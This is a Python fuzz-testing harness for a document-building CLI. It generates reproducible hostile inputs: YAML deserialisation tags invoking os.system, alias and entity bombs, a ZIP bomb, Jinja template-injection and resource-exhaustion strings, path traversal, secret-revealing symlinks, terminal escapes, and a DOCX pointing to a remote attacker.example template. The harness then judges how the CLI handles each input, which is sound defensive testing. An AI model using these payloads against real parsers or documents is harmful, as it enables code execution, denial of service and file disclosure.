"""Hostile and broken inputs for the CLI, made reproducibly from a seed.

One generator serves two runners: ``tests/test_fuzz.py`` runs a small share in CI, and

    python -m tests.fuzzcases --count 12000 [--seed 1] [--jobs 2]

runs a long campaign and prints the figures (exit codes, internal errors, hangs, files
outside the output folder, partial sets). Each case is set up in a fresh folder: an
answers file, perhaps a profile, a templates folder or a letterhead, and the command line.
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import functools
import io
import json
import os
import random
import shutil
import signal
import sys
import tempfile
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = sorted((ROOT / "samples").glob("*.yaml"))
PROFILE = ROOT / "xbdocs" / "data" / "profiles" / "altai-krai.yaml"
TEMPLATES = ROOT / "templates"
SECONDS_PER_CASE = 20


#: A file's content, or how to make it: costly contents (DOCX files, a ZIP bomb) are made
#: when the case is run, not when it is drawn, so drawing many cases is cheap.
Content = bytes | str | Callable[[], bytes | str]


@dataclass
class Case:
    """One run of the CLI: files to lay out in the case's folder, and the arguments."""

    name: str
    files: dict[str, Content] = field(default_factory=dict)
    args: list[str] = field(default_factory=list)
    env: dict[str, str] = field(default_factory=dict)
    #: Called with the case's folder after the files are laid out (links, FIFOs, folders).
    setup: Callable[[Path], None] | None = None
    #: Templates copied into ``templates/`` before the files (which may replace some).
    templates: bool = False

    def file(self, name: str) -> bytes | str:
        """The content of one of the case's files, made if it is made on demand."""
        data = self.files[name]
        return data() if callable(data) else data


# --- answers files ------------------------------------------------------------------------

def _base(rng: random.Random) -> dict:
    return yaml.safe_load(rng.choice(SAMPLES).read_text(encoding="utf-8"))


def _paths(node, prefix=()) -> list[tuple]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


HOSTILE_TEXT = [
    "{{ 7*7 }}", "{% if %}", "{{ ''.__class__ }}", "@clause x", "**", "\ue000", "\ue0010\ue001",
    "\ue002ref0", "\ue002refX", "Ә&<>«»\"'", "\x1b]0;pwned\x07", "\x1b[2J\x1b[31mred",
    "a\nerror: forged line", "\u0085next", "line\u2028sep", "para\u2029sep", "\x85\x9b",
    "\u202eevil", "x" * 3000, "", " ", "null", "~", "9999-12-31", "0001-01-01", "2026-02-30",
    "../../etc/passwd", "NaN", "1e309", "-0", "Павлодар Pavlodar 巴甫洛达尔", "\U0001F600",
]
SCALARS = [None, True, False, 0, -1, 10**12, 1.5, float("nan"), float("inf"), [], {},
           "2012-09-19", "19.09.2012", "31.02.2012"]


def _value(rng: random.Random):
    roll = rng.random()
    if roll < 0.5:
        return rng.choice(HOSTILE_TEXT)
    if roll < 0.8:
        return copy.deepcopy(rng.choice(SCALARS))
    return "".join(chr(rng.choice([rng.randrange(0x20, 0x7f), rng.randrange(0x400, 0x4ff),
                                   rng.randrange(0, 0x20), rng.randrange(0x80, 0xa0),
                                   rng.randrange(0xe000, 0xe010), rng.randrange(0x2000, 0x2070)]))
                   for _ in range(rng.randrange(0, 30)))


def _mutated(rng: random.Random) -> str:
    data = _base(rng)
    paths = _paths(data)
    for _ in range(rng.randrange(1, 4)):
        path = rng.choice(paths)
        node = data
        try:
            for key in path[:-1]:
                node = node[key]
            action = rng.choice(["set", "set", "delete", "unknown"])
            if action == "delete" and isinstance(node, dict):
                node.pop(path[-1], None)
            elif action == "unknown" and isinstance(node, dict):
                suffix = rng.choice(["_x", "\x1b[1m", "é"])
                node[f"{path[-1]}{suffix}"] = _value(rng)
            else:
                node[path[-1]] = _value(rng)
        except (KeyError, IndexError, TypeError):
            pass
    return yaml.safe_dump(data, allow_unicode=True)


def _sample_text(rng: random.Random) -> str:
    return rng.choice(SAMPLES).read_text(encoding="utf-8")


def _replace_line(text: str, key: str, value: str) -> str:
    """Set the first ``key: …`` line (any indentation) to ``value``, raw YAML."""
    lines = text.splitlines()
    for index, line in enumerate(lines):
        stripped = line.lstrip()
        if stripped.startswith(f"{key}:"):
            indent = line[: len(line) - len(stripped)]
            lines[index] = f"{indent}{key}: {value}"
            break
    return "\n".join(lines) + "\n"


RAW_VALUES = [
    "2026-02-30", "2026-13-01", "2026-01-01 25:00:00", "25:00:00", "9999-12-31", "0001-01-01",
    "!!python/object/apply:os.system ['true']", "!!python/name:os.system", "!!int abc",
    "!custom x", "!!timestamp x", "!!binary aGVsbG8=", "!!float abc", "!!str 5", "!!set {a}",
    "&a [*a]", "*nowhere", "=", "<<: {x: 1}", "[" * 600 + "]" * 600, "{a: " * 300 + "1" + "}" * 300,
    "\"\\e]0;title\\a\"", "\"\\ue002ref0\"", "\"a\\u2028b\"", "\"\\x85\"", "'\\x1b'", "0x1F",
    "1_000", ".inf", "-.nan", "2012-09-19T10:00:00Z", "\"" + "\\u00e9" * 5000 + "\"",
]
RAW_KEYS = ["date", "years", "notice_months", "copies", "ru", "kk", "gender", "track",
            "catalogue", "areas", "place", "inn", "bin", "renewal", "format", "mode"]


def _raw_mutated(rng: random.Random) -> str:
    return _replace_line(_sample_text(rng), rng.choice(RAW_KEYS), rng.choice(RAW_VALUES))


def _alias_bomb() -> str:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for index in range(1, 10):
        prev = chr(ord("a") + index - 1)
        name = chr(ord("a") + index)
        lines.append(f"{name}: &{name} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}, "
                     f"*{prev}, *{prev}, *{prev}]")
    return "\n".join(lines) + "\n"


SPECIAL_ANSWERS = {
    "alias-bomb": _alias_bomb(),
    "recursive-alias": "a: &a [*a]\n",
    "merge-key": "base: &b {track: regional}\n<<: *b\n",
    "merge-inline": "<<: {track: regional}\n",
    "deep-list": "a: " + "[" * 900 + "]" * 900 + "\n",
    "deep-map": "a:\n" + "".join("  " * i + f" k{i}:\n" for i in range(1, 400)) + "  x: 1\n",
    "python-object": "!!python/object/apply:os.system ['echo pwned']\n",
    "binary": "track: !!binary aGVsbG8=\n",
    "empty": "",
    "only-comment": "# nothing\n",
    "list-root": "- a\n- b\n",
    "scalar-root": "42\n",
    "bom": "\ufefftrack: municipal\n",
    "latin1": "track: caf\xe9\n".encode("latin-1"),
    "nul": "track: mu\x00nicipal\n",
    "huge": "a: " + "x" * 3_000_000 + "\n",
    "complex-key": "? [a, b]\n: 1\n",
    "null-key": "~: 1\n",
}


# --- the other inputs: profiles, templates, letterheads, the environment -------------------

def _profile_cases(rng: random.Random) -> Case:
    text = PROFILE.read_text(encoding="utf-8")
    choice = rng.choice(["traversal", "long", "slash", "dot", "unicode", "empty", "bomb",
                         "tag", "dup-id", "nul"])
    step_id = {"traversal": "../../../elsewhere/pwn", "long": "x" * 300, "slash": "a/b",
               "dot": "..", "unicode": "шаг", "empty": '""', "bomb": "*x", "tag": "!!int 5",
               "dup-id": "registration", "nul": '"a\\0b"'}[choice]
    text = text.replace("- id: approval-request", f"- id: {step_id}", 1)
    return Case(f"profile-{choice}", {"answers.yaml": _sample_text(rng), "profile.yaml": text},
                ["--stage", rng.choice(["approval", "all"]), "--profile", "profile.yaml",
                 "--no-sheet-count"])


HOSTILE_TEMPLATES = {
    "range": "{% for i in range(10**9) %}x{% endfor %}",
    "nested-range": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
                    "{% endfor %}",
    "big-string": "{{ 'x' * 1500000000 }}",
    "big-power": "{{ 10 ** 10 ** 10 }}",
    "big-format": "{{ '%999999999s' % 'x' }}",
    "big-center": "{{ 'x'|center(1000000000) }}",
    "self-include": "{% include 'ru/notice.txt' %}",
    "money-nan": "{{ money('NaN') }}",
    "money-inf": "{{ money(1e400) }}",
    "count-huge": "{{ count(10**30, 'год') }}",
    "date-bad": "{{ date('x') }}",
    "class": "{{ ''.__class__.__mro__ }}",
    "recursion": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "lipsum": "{{ lipsum(100000) }}",
    "str-format": "{{ '{:999999999}'.format(1) }}",
    "replace": "{{ ('x' * 100000)|replace('x', 'y' * 100000) }}",
}


def _template_case(rng: random.Random) -> Case:
    choice = rng.choice([*HOSTILE_TEMPLATES, "non-utf8", "directory", "symlink", "missing"])
    files: dict[str, bytes | str] = {"answers.yaml": SAMPLES[0].read_text(encoding="utf-8")}
    setup = None
    name = "templates/ru/notice.txt"
    if choice in HOSTILE_TEMPLATES:
        files[name] = "@title\n" + HOSTILE_TEMPLATES[choice] + "\n"
    elif choice == "non-utf8":
        files[name] = "@title\nкириллица\n".encode("cp1251")
    elif choice == "directory":
        def setup(folder: Path) -> None:
            target = folder / name
            target.unlink()
            target.mkdir()
    elif choice == "symlink":
        def setup(folder: Path) -> None:
            target = folder / "templates/ru/agreement.txt"
            secret = folder / "secret.txt"
            secret.write_text("@title\nSECRET-OUTSIDE\n", encoding="utf-8")
            target.unlink()
            target.symlink_to(secret)
    else:
        def setup(folder: Path) -> None:
            (folder / "templates/kk/agreement.txt").unlink()
    command = rng.choice([["--stage", "approval", "--no-sheet-count", "--templates",
                           "templates"], ["--templates", "templates"], ["lint"]])
    return Case(f"template-{choice}", files, command, templates=True, setup=setup)


def _docx(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def _real_docx() -> bytes:
    """A small real DOCX with a header (made once per process: python-docx is slow)."""
    from docx import Document

    buffer = io.BytesIO()
    document = Document()
    document.sections[0].header.paragraphs[0].text = "АДМИНИСТРАЦИЯ"
    document.save(buffer)
    return buffer.getvalue()


def _with_parts(base: bytes, replace: dict[str, bytes | str | None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts: dict[str, bytes | str] = {n: archive.read(n) for n in archive.namelist()}
    for name, data in replace.items():
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    return _docx(parts)


def _entity_body(level: int) -> str:
    return ("&lol" + str(level - 1) + ";") * 10 if level > 1 else "&lol;" * 10


ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{_entity_body(i)}">' for i in range(1, 10))
               + ']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
               '2006/main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>'
               '</w:document>')


@functools.cache
def _zip_bomb() -> bytes:
    """300 MB of zeros in a small DOCX-looking ZIP (≈ 1 s to pack: made once per process)."""
    return _docx({"[Content_Types].xml": b"<x/>", "word/big.bin": b"\0" * 300_000_000})


def _edited(replace: dict[str, bytes | str | None]) -> Callable[[], bytes]:
    """How to make the real DOCX with some parts replaced (``None``: removed)."""
    return lambda: _with_parts(_real_docx(), replace)


def _letterhead_case(rng: random.Random) -> Case:
    variants: dict[str, Callable[[], bytes]] = {
        "text": lambda: b"not a docx at all",
        "empty": lambda: b"",
        "truncated": lambda: _real_docx()[: len(_real_docx()) // 2],
        "broken-xml": _edited({"word/document.xml": "<w:document"}),
        "no-sectpr": _edited({"word/document.xml": (
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main"><w:body><w:p/></w:body></w:document>')}),
        "no-styles": _edited({"word/styles.xml": None}),
        "no-document": _edited({"word/document.xml": None}),
        "entity-bomb": _edited({"word/document.xml": ENTITY_BOMB}),
        "zip-bomb": _zip_bomb,
        "docm": _edited({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
        "external-template": _edited({"word/_rels/settings.xml.rels": (
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            '</Relationships>')}),
        "good": _real_docx,
    }
    choice = rng.choice(list(variants))
    return Case(f"letterhead-{choice}", {"answers.yaml": _sample_text(rng),
                                         "blank.docx": variants[choice]},
                ["--stage", "approval", "--no-sheet-count", "--letterhead", "blank.docx"])


def _environment_case(rng: random.Random) -> Case:
    choice = rng.choice(["today-dotted", "today-junk", "today-far", "fifo", "dev-zero",
                         "directory", "unreadable", "missing", "outdir-is-file",
                         "manifest-is-dir", "dangling-link", "check-stage"])
    case = Case(f"env-{choice}", {"answers.yaml": _sample_text(rng)})
    if choice.startswith("today"):
        case.env["XBDOCS_TODAY"] = {"today-dotted": "15.12.2026", "today-junk": "tomorrow",
                                    "today-far": "9999-12-31"}[choice]
        case.args = ["--stage", "approval", "--no-sheet-count"]
    elif choice == "fifo":
        case.setup = lambda folder: (os.unlink(folder / "answers.yaml"),
                                     os.mkfifo(folder / "answers.yaml"))
    elif choice == "dev-zero":
        case.setup = lambda folder: (os.unlink(folder / "answers.yaml"),
                                     os.symlink("/dev/zero", folder / "answers.yaml"))
    elif choice == "directory":
        case.setup = lambda folder: (os.unlink(folder / "answers.yaml"),
                                     os.mkdir(folder / "answers.yaml"))
    elif choice == "unreadable":
        case.setup = lambda folder: os.chmod(folder / "answers.yaml", 0)
    elif choice == "missing":
        case.setup = lambda folder: os.unlink(folder / "answers.yaml")
    elif choice == "outdir-is-file":
        case.files["out"] = "a file"
    elif choice == "manifest-is-dir":
        def setup(folder: Path) -> None:
            (folder / "out" / "manifest.json").mkdir(parents=True)
            (folder / "out" / "agreement.ru.docx").write_bytes(b"old")
        case.setup = setup
        case.args = ["--force"]
    elif choice == "dangling-link":
        def setup(folder: Path) -> None:
            (folder / "out").mkdir()
            (folder / "out" / "agreement.kk.docx").symlink_to(folder / "nowhere")
        case.setup = setup
    elif choice == "check-stage":
        case.args = ["check-command"]
    return case


def make_case(rng: random.Random, index: int) -> Case:
    roll = rng.random()
    if roll < 0.45:
        return Case(f"{index}-mutated", {"answers.yaml": _mutated(rng)})
    if roll < 0.70:
        return Case(f"{index}-raw", {"answers.yaml": _raw_mutated(rng)})
    if roll < 0.76:
        name = rng.choice(list(SPECIAL_ANSWERS))
        return Case(f"{index}-special-{name}", {"answers.yaml": SPECIAL_ANSWERS[name]})
    if roll < 0.84:
        case = _profile_cases(rng)
    elif roll < 0.91:
        case = _template_case(rng)
    elif roll < 0.96:
        case = _letterhead_case(rng)
    else:
        case = _environment_case(rng)
    case.name = f"{index}-{case.name}"
    return case


# --- running a case -------------------------------------------------------------------------

@dataclass
class Outcome:
    name: str
    code: int | str
    problems: list[str]


class _Hang(Exception):
    pass


def _listing(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*")}


def run_case(case: Case, work: Path, seconds: int = SECONDS_PER_CASE) -> Outcome:
    """Lay the case out in ``work`` (an empty folder), run the CLI in this process, and
    judge what it did."""
    from xbdocs.cli import main

    if case.templates:
        shutil.copytree(TEMPLATES, work / "templates")
    for name in case.files:
        data = case.file(name)
        path = work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
    if case.setup:
        case.setup(work)
    before = _listing(work)
    outdir = work / "out"
    had_out = {p for p in before if p == "out" or p.startswith("out/")}
    args = [str(work / arg) if arg in ("profile.yaml", "blank.docx", "templates") else arg
            for arg in case.args]
    if case.args[:1] == ["lint"]:
        argv = ["templates", "lint", str(work / "templates")]
    elif case.args[:1] == ["check-command"]:
        argv = ["check", str(work / "answers.yaml")]
    else:
        argv = ["build", str(work / "answers.yaml"), "-o", str(outdir), *args]
    err, out = io.StringIO(), io.StringIO()
    old_env = {key: os.environ.get(key) for key in case.env}
    os.environ.update(case.env)
    cwd = os.getcwd()
    os.chdir(work)

    def alarm(signum, frame):
        raise _Hang

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(seconds)
    code: int | str
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
            main(["--lang", "en", *argv])
        code = 0
    except SystemExit as exc:
        code = exc.code if isinstance(exc.code, int) else 1
    except _Hang:
        code = "hang"
    except MemoryError:
        code = "memory"
    except BaseException as exc:
        code = f"raised {type(exc).__name__}"
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
        os.chdir(cwd)
        for key, value in old_env.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    problems = judge(code, err.getvalue(), work, before, had_out, argv[0] == "build")
    return Outcome(case.name, code, problems)


def judge(code, err: str, work: Path, before: set[str], had_out: set[str],
          builds: bool) -> list[str]:
    problems = []
    if code not in (0, 1):
        problems.append(f"exit {code}")
    if "internal error" in err or "Traceback" in err:
        problems.append("internal error")
    lines = err.splitlines()
    if any(len(line) > 1000 for line in lines):
        problems.append("message over 1000 characters")
    if any(ch in err for ch in "\x1b\x07\x85\u2028\u2029\x9b"):
        problems.append("control character in messages")
    if any(line.startswith("error: forged") for line in lines):
        problems.append("forged message line")
    after = _listing(work)
    new = after - before
    outside = sorted(p for p in new if not (p == "out" or p.startswith("out/")))
    if outside:
        problems.append(f"written outside -o: {outside[:3]}")
    out_new = sorted(p for p in new if p.startswith("out/"))
    leftovers = [p for p in after if p.startswith("out/") and Path(p).name.startswith(".")
                 and p not in had_out]
    if leftovers:
        problems.append(f"temporary files left: {leftovers[:3]}")
    if builds and code == 1 and out_new:
        problems.append(f"files written on error: {out_new[:3]}")
    if builds and code == 0:
        manifest = work / "out" / "manifest.json"
        try:
            listed = json.loads(manifest.read_text(encoding="utf-8"))["files"]
            missing = [f["name"] for f in listed if not (work / "out" / f["name"]).is_file()]
            if missing:
                problems.append(f"partial set: {missing[:3]}")
        except (OSError, ValueError, KeyError) as exc:
            problems.append(f"no readable manifest: {exc}")
    return problems


def _limit_memory(gigabytes: int = 4) -> None:
    with contextlib.suppress(ImportError, ValueError, OSError):
        import resource

        limit = gigabytes * 1024**3
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def _worker(args: tuple[int, int, int]) -> list[Outcome]:
    seed, first, count = args
    _limit_memory()
    results = []
    for index in range(first, first + count):
        rng = random.Random(f"{seed}:{index}")
        case = make_case(rng, index)
        with tempfile.TemporaryDirectory(prefix="xbdocs-fuzz-") as work:
            results.append(run_case(case, Path(work)))
            for path in Path(work).rglob("*"):  # unreadable files, for the clean-up
                with contextlib.suppress(OSError):
                    if not path.is_symlink():
                        path.chmod(0o700)
    return results


def campaign(count: int, seed: int = 1, jobs: int = 2) -> list[Outcome]:
    from multiprocessing import get_context

    chunk = 50
    tasks = [(seed, first, min(chunk, count - first)) for first in range(0, count, chunk)]
    with get_context("fork").Pool(jobs, maxtasksperchild=4) as pool:
        results: list[Outcome] = []
        for part in pool.imap_unordered(_worker, tasks):
            results += part
            print(f"\r{len(results)}/{count}", end="", file=sys.stderr, flush=True)
    print(file=sys.stderr)
    return results


def report(results: list[Outcome]) -> str:
    codes = Counter(str(r.code) for r in results)
    kinds = Counter(p.split(":")[0] for r in results for p in r.problems)
    bad = [r for r in results if r.problems]
    lines = [f"inputs: {len(results)}",
             "exit codes: " + ", ".join(f"{code}: {n}" for code, n in sorted(codes.items())),
             "problems: " + (", ".join(f"{kind}: {n}" for kind, n in kinds.most_common())
                             or "none"),
             f"inputs with a problem: {len(bad)}"]
    by_case = Counter(r.name.split("-", 1)[1] for r in bad)
    lines += [f"  {n:5d}  {name}" for name, n in by_case.most_common(40)]
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=2000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--failures", type=Path, help="write the failing cases here (JSON)")
    options = parser.parse_args(argv)
    results = campaign(options.count, options.seed, options.jobs)
    print(report(results))
    if options.failures:
        options.failures.write_text(json.dumps(
            [{"case": r.name, "code": str(r.code), "problems": r.problems}
             for r in results if r.problems], ensure_ascii=False, indent=1), encoding="utf-8")
    return 1 if any(r.problems for r in results) else 0


if __name__ == "__main__":
    sys.exit(main())
